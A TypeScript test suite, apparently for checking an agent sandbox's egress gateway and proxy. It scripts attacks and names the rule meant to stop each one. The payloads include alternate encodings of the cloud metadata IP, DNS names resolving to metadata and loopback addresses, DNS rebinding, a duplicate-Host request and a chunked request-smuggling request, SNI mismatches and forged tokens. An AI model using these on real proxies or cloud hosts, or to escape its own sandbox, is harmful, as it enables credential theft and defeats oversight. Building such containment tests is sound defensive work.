import type { Arena } from "./arena.ts";
import type { Attack, Attempt } from "./attack.ts";
import { client, connect, get, OPEN, PROOF } from "./egress-client.ts";
import type { Ran } from "./engine.ts";
import { throughLifted } from "./lifted-gateway.ts";
import { NAMES } from "./names.ts";
import { onTheBridge } from "./network.ts";
import { type ShellAttack, shellAttack } from "./shell-attack.ts";
import { METADATA_ADDRESS, METADATA_SECRET, newWord } from "./targets.ts";

const AREA = "egress";

const throughTheProxy = (
  spec: Pick<ShellAttack, "name" | "by" | "worked"> &
    Partial<Pick<ShellAttack, "without">> & { script(word: string): string },
): Attack =>
  shellAttack({
    area: AREA,
    without: onTheBridge,
    proof: OPEN,
    ...spec,
    script: ({ word }) => client(`${PROOF}${spec.script(word)}`),
  });

const gotMetadata = (_aim: unknown, { output }: Ran) => output.includes(METADATA_SECRET);

/** One address in all the ways in which programs understand it. */
const SPELLINGS = [
  METADATA_ADDRESS,
  "2852039166",
  "0xa9fea9fe",
  "0251.0376.0251.0376",
  "169.254.43518",
  "[::ffff:169.254.169.254]",
  "[::ffff:a9fe:a9fe]",
  `${METADATA_ADDRESS}.`,
];

const loopbacks = ["127.0.0.1", "localhost", "127.1", "0", "0.0.0.0", "[::1]", "[::]", "2130706433"];

export const egressAttacks: Attack[] = [
  throughTheProxy({
    name: "a host that is not on the list",
    by: "the policy, in the gateway's proxy",
    script: (word) =>
      [
        connect("foreign.example.com:443", `hello("${word}.foreign.example.com")`),
        get(`http://foreign.example.com/${word}`, "foreign.example.com"),
        connect("FOREIGN.example.com.:443", `hello("${word}.foreign.example.com")`),
        get(`http://allowed.example.com@foreign.example.com/${word}`, "foreign.example.com"),
        get(`http://foreign.example.com#allowed.example.com/${word}`, "foreign.example.com"),
      ].join("\n"),
  }),
  throughTheProxy({
    name: "CONNECT with the name of another server in TLS",
    by: "the server that TLS names has to be the one that was asked for",
    script: (word) => connect("allowed.example.com:443", `hello("${word}.foreign.example.com")`),
  }),
  throughTheProxy({
    name: "CONNECT for something that is no TLS",
    by: "the server that TLS names has to be the one that was asked for",
    script: (word) => connect("allowed.example.com:443", `b"${word}\\n" * 20`),
  }),
  throughTheProxy({
    name: "other ports",
    by: "ports 80 and 443, unless another is listed",
    script: (word) =>
      [22, 8443].map((port) => connect(`allowed.example.com:${port}`, `b"SSH-2.0-${word}\\r\\n"`)).join("\n"),
  }),
  throughTheProxy({
    name: "allowed names that lead to the metadata address",
    by: "addresses are checked after the name is resolved",
    script: () => get("http://metadata.example.com/latest/meta-data/", "metadata.example.com"),
    worked: gotMetadata,
  }),
  throughTheProxy({
    name: "allowed names that lead to loopback and private networks",
    by: "addresses are checked after the name is resolved",
    // Their ports are listed too, so that no other rule can be what stops it.
    without: throughLifted("addresses"),
    script: (word) =>
      [
        connect("private.example.com:443", `b"${word}"`),
        get(`http://private.example.com:7004/${word}`, "private.example.com:7004"),
        get(`http://loopback.example.com:7004/${word}`, "loopback.example.com:7004"),
      ].join("\n"),
  }),
  throughTheProxy({
    name: "the metadata address in other spellings",
    by: "addresses are no hosts of the list, and are checked",
    script: () =>
      SPELLINGS.map((host) => get(`http://${host}/latest/`, host))
        .concat(SPELLINGS.map((host) => connect(`${host}:80`, 'b"GET /latest/ HTTP/1.0\\r\\n\\r\\n"')))
        .join("\n"),
    worked: gotMetadata,
  }),
  throughTheProxy({
    name: "the host's own listeners",
    by: "addresses are no hosts of the list, and are checked",
    script: (word) => loopbacks.map((host) => get(`http://${host}:7004/${word}`, `${host}:7004`)).join("\n"),
  }),
  throughTheProxy({
    name: "a redirect of an allowed host to the metadata address",
    by: "each request is checked by itself",
    script: () => `to = "http://${METADATA_ADDRESS}/latest/"
answer = ask("GET http://allowed.example.com/?redirect=" + to + " HTTP/1.1\\r\\nHost: allowed.example.com")
if "${METADATA_ADDRESS}" in answer: ask("GET " + to + " HTTP/1.1\\r\\nHost: ${METADATA_ADDRESS}")`,
    worked: gotMetadata,
  }),
  throughTheProxy({
    name: "another host's name in the head of a request",
    by: "the request is written anew for the host that it is for",
    script: (word) =>
      [
        get("http://allowed.example.com/", `${word}.foreign.example.com`),
        `ask("GET http://allowed.example.com/ HTTP/1.1\\r\\nHost: allowed.example.com\\r\\nHost: ${word}.foreign.example.com")`,
        `ask("POST http://allowed.example.com/ HTTP/1.1\\r\\nHost: allowed.example.com\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://foreign.example.com/${word} HTTP/1.1\\r\\nHost: ${word}.foreign.example.com")`,
      ].join("\n"),
    // The internet got a request under a name that nobody allowed.
    worked: async ({ arena, word }) => (await arena.targets.sees(`${word}.foreign.example.com`)) !== null,
  }),
  throughTheProxy({
    name: "the proxy without a token, and with wrong ones",
    by: "the gateway's fence",
    script: (word) =>
      ['b""', 'b"fha_wrong"', "token()[:-1]", 'token() + b"x"', 'b"x " + token()']
        .map(
          (bearer) =>
            `ask("GET http://allowed.example.com/${word} HTTP/1.1\\r\\nHost: allowed.example.com", b"", ${bearer})`,
        )
        .join("\n"),
  }),
];

const getMoving = (word: string) =>
  client(`${PROOF}${get(`http://moving.example.com/${word}`, "moving.example.com")}`);

/** The name leads to the internet when it is asked for first, and inside right after that. */
async function moving(arena: Arena, run: (script: string) => Promise<Ran>): Promise<Attempt> {
  const word = newWord();
  try {
    await run(getMoving(word));
    if ((await arena.targets.sees(word)) === null) throw new Error("the name does not lead to the internet");
    await arena.names.move("moving.example.com", METADATA_ADDRESS);
    const { output } = await run(getMoving(newWord()));
    return { succeeded: output.includes(METADATA_SECRET), evidence: output.slice(-300) };
  } finally {
    await arena.names.move("moving.example.com", NAMES["moving.example.com"]);
  }
}

egressAttacks.push(
  {
    area: AREA,
    name: "a name that leads elsewhere the second time",
    by: "the address that was checked is the one that is connected to",
    try: (arena) => moving(arena, (script) => arena.agent.run(script)),
    control: (arena) => moving(arena, (script) => arena.control(onTheBridge).run(script)),
  },
  {
    area: AREA,
    name: "the proxy while the sandbox rests",
    by: "the gateway is closed between turns",
    async try(arena) {
      const word = newWord();
      const script = client(get(`http://allowed.example.com/${word}`, "allowed.example.com"));
      const { output } = await arena.engine.exec(await arena.agent.container(), script);
      return { succeeded: (await arena.targets.sees(word)) !== null, evidence: output.slice(-300) };
    },
    async control(arena) {
      const word = newWord();
      const script = client(get(`http://allowed.example.com/${word}`, "allowed.example.com"));
      const { output } = await arena.agent.run(script);
      return { succeeded: (await arena.targets.sees(word)) !== null, evidence: output.slice(-300) };
    },
  },
);
